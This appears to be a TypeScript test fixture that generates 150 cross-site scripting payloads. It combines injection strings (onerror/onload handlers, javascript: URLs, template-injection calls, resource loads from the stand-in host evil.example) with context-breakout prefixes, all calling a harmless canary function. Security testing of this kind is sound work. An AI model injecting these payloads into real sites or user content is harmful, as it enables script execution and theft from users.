/** Payloads that run `canary` wherever a string is interpreted as markup, an address or code [A30]. */
const dangers = [
  '<img src=x onerror=canary()>',
  '<svg onload=canary()>',
  '<script>canary()</script>',
  'javascript:canary()',
  '<iframe srcdoc="<script>canary()</script>"></iframe>',
  '<a href="javascript:canary()">press</a>',
  '<details open ontoggle=canary()>',
  '<math><mtext><img src=x onerror=canary()></mtext></math>',
  'onfocus=canary() autofocus tabindex=0',
  '&lt;img src=x onerror=canary()&gt;',
  '<style>@import "//evil.example/canary.css";</style>',
  '<base href="//evil.example/canary/">',
  '<meta http-equiv=refresh content="0;url=javascript:canary()">',
  '{{constructor.constructor("canary()")()}}',
  '${canary()}\u2028canary()',
];

/** Ways to break out of the context that a string is embedded in. */
const waysOut: readonly ((danger: string) => string)[] = [
  danger => danger,
  danger => `">${danger}`,
  danger => `'>${danger}`,
  danger => `" ${danger} y="`,
  danger => `</title>${danger}`,
  danger => `</script>${danger}`,
  danger => `</textarea></style>${danger}`,
  danger => `-->${danger}<!--`,
  danger => `]]>${danger}`,
  danger => `\`${danger}\``,
];

/** A hundred and fifty payloads: every danger combined with every way of breaking out. */
export const textPayloads: readonly string[] = dangers.flatMap(danger => waysOut.map(wayOut => wayOut(danger)));
